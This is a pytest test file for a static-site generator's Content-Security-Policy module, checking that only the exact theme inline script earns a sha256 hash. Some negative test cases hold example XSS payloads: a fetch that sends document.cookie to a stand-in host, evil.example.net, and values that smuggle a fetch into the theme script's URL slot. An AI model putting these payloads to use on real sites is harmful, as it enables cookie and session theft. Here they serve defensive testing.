"""The Content-Security-Policy, unit by unit: which inline scripts earn a hash, and the policy string.

Expected hashes are computed here with hashlib, not with ``csp.sha256_source``, so a wrong digest in the
module cannot agree with itself."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest

from videre.pages import csp

THEME_SCRIPT = 'var base = "{{ base_url }}"; document.documentElement.classList.add("js")'


def _hash(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode("ascii") + "'"


@pytest.fixture()
def trusted(tmp_path):
    templates = tmp_path / "theme"
    (templates / "partials").mkdir(parents=True)
    (templates / "base.html").write_text(f"<head><script>{THEME_SCRIPT}</script></head>", encoding="utf-8")
    # A template block with {% … %} inside the script cannot be matched safely: never trusted.
    (templates / "partials" / "skip.html").write_text("<script>{% if x %}go(){% endif %}</script>", encoding="utf-8")
    # An external script and a JSON data block are not inline code.
    (templates / "partials" / "data.html").write_text(
        '<script src="x.js"></script><script type="application/json">{"a": 1}</script>', encoding="utf-8"
    )
    return csp.TrustedScripts.from_templates([templates])


def test_only_the_theme_script_becomes_a_pattern(trusted):
    assert len(trusted.patterns) == 1


@pytest.mark.parametrize("base", ["", ".", "../..", "../../../kommuner/esbjerg/"])
def test_the_theme_script_is_trusted_with_any_short_url_in_its_expression(trusted, base):
    assert trusted.trusts(THEME_SCRIPT.replace("{{ base_url }}", base))


@pytest.mark.parametrize(
    "script",
    [
        # untrusted: nothing like the theme
        "alert(1)",
        'fetch("https://evil.example.net/?c=" + document.cookie)',
        # trusted plus more, after, before, and in the middle
        THEME_SCRIPT.replace("{{ base_url }}", "..") + ';fetch("https://evil.example.net/")',
        'fetch("https://evil.example.net/");' + THEME_SCRIPT.replace("{{ base_url }}", ".."),
        THEME_SCRIPT.replace("{{ base_url }}", '"; fetch("//evil.example.net/"); "'),
        # the expression's stand-in only takes URL characters: no quote, no parenthesis, no space
        THEME_SCRIPT.replace("{{ base_url }}", "a b"),
        THEME_SCRIPT.replace("{{ base_url }}", 'a"b'),
        # the theme script with one character changed outside the expression
        THEME_SCRIPT.replace("{{ base_url }}", "..").replace("js", "jz"),
        "",
    ],
)
def test_a_script_that_is_not_exactly_the_theme_script_is_not_trusted(trusted, script):
    assert not trusted.trusts(script)


def test_the_expression_stand_in_takes_up_to_200_url_characters_and_no_more(trusted):
    assert trusted.trusts(THEME_SCRIPT.replace("{{ base_url }}", "a" * 200))
    assert not trusted.trusts(THEME_SCRIPT.replace("{{ base_url }}", "a" * 201))


def test_a_page_policy_hashes_the_trusted_script_and_nothing_else(trusted):
    good = THEME_SCRIPT.replace("{{ base_url }}", "..")
    bad = good + ";fetch('//evil.example.net/')"
    page = f"<html><head><meta charset=utf-8><script>{good}</script></head><body><script>{bad}</script></body></html>"
    policy = csp.page_policy(page, trusted)
    script_src = re.search(r"script-src ([^;]*)", policy).group(1).split()
    assert script_src == ["'self'", _hash(good)]
    assert _hash(bad) not in policy


def test_without_trusted_patterns_no_inline_script_gets_a_hash():
    page = f"<head><script>{THEME_SCRIPT}</script></head>"
    assert csp.page_policy(page, csp.TrustedScripts()) == csp.policy()
    assert "sha256" not in csp.policy()


def test_the_policy_string_is_written_out():
    assert csp.policy() == (
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
        "connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'"
    )


def test_wasm_is_allowed_only_on_pages_that_load_pagefind(trusted):
    with_search = '<head></head><body><script src="../pagefind/pagefind-ui.js"></script></body>'
    without = '<head></head><body><script src="../assets/videre-katalog.js"></script></body>'
    assert "'wasm-unsafe-eval'" in csp.page_policy(with_search, trusted)
    assert "'wasm-unsafe-eval'" not in csp.page_policy(without, trusted)


def test_hashes_are_sorted_and_each_given_once(trusted):
    a = THEME_SCRIPT.replace("{{ base_url }}", "a")
    b = THEME_SCRIPT.replace("{{ base_url }}", "b")
    page = f"<head><script>{b}</script><script>{a}</script><script>{b}</script></head>"
    hashes = [
        s
        for s in re.search(r"script-src ([^;]*)", csp.page_policy(page, trusted)).group(1).split()
        if s.startswith("'sha256-")
    ]
    assert hashes == sorted({_hash(a), _hash(b)})


@pytest.mark.parametrize(
    "attrs,executed",
    [
        ("", True),
        (' type="module"', True),
        (" type=text/javascript", True),
        (' type="application/json"', False),
        (' type="text/template"', False),
        (' src="a.js"', False),
        (" SRC=a.js", False),
    ],
)
def test_inline_scripts_are_those_the_browser_runs(attrs, executed):
    assert csp.inline_scripts(f"<script{attrs}>x()</script>") == (["x()"] if executed else [])


def test_crlf_hashes_as_lf():
    assert csp.sha256_source("a()\r\nb()") == _hash("a()\nb()")


def test_protect_puts_the_tag_right_after_the_charset_once(trusted):
    page = '<html><head><meta charset="utf-8"><title>x</title></head><body></body></html>'
    protected = csp.protect(page, trusted)
    assert protected.startswith('<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"')
    assert csp.protect(protected, trusted) == protected
    with pytest.raises(
        ValueError, match=r"^siden har intet <head>, så sikkerhedspolitikken \(CSP\) kan ikke sættes ind$"
    ):
        csp.protect("<body></body>", trusted)


def test_the_wasm_source_is_written_exactly():
    assert csp.policy(wasm=True).split("; ")[1] == "script-src 'self' 'wasm-unsafe-eval'"


def test_an_external_script_does_not_hide_the_inline_scripts_after_it():
    page = '<script src="a.js"></script><script>b()</script><script type="application/json">{}</script><script>c()</script>'
    assert csp.inline_scripts(page) == ["b()", "c()"]


def test_templates_with_danish_letters_are_read_as_utf8(tmp_path):
    (tmp_path / "t.html").write_bytes('<script>var s = "Søg på æbler"</script>'.encode())
    trusted = csp.TrustedScripts.from_templates([tmp_path])
    assert trusted.trusts('var s = "Søg på æbler"')


def test_protect_writes_the_policy_as_it_is_with_the_hash_of_the_theme_script(trusted):
    good = THEME_SCRIPT.replace("{{ base_url }}", "..")
    page = f'<html><head><meta charset="utf-8"><script>{good}</script></head></html>'
    # Single quotes stay as they are in the attribute (it is delimited by double quotes).
    assert csp.protect(page, trusted) == page.replace(
        '<meta charset="utf-8">',
        '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="'
        f"default-src 'none'; script-src 'self' {_hash(good)}; style-src 'self'; img-src 'self' data:; "
        "font-src 'self'; connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'\">",
    )
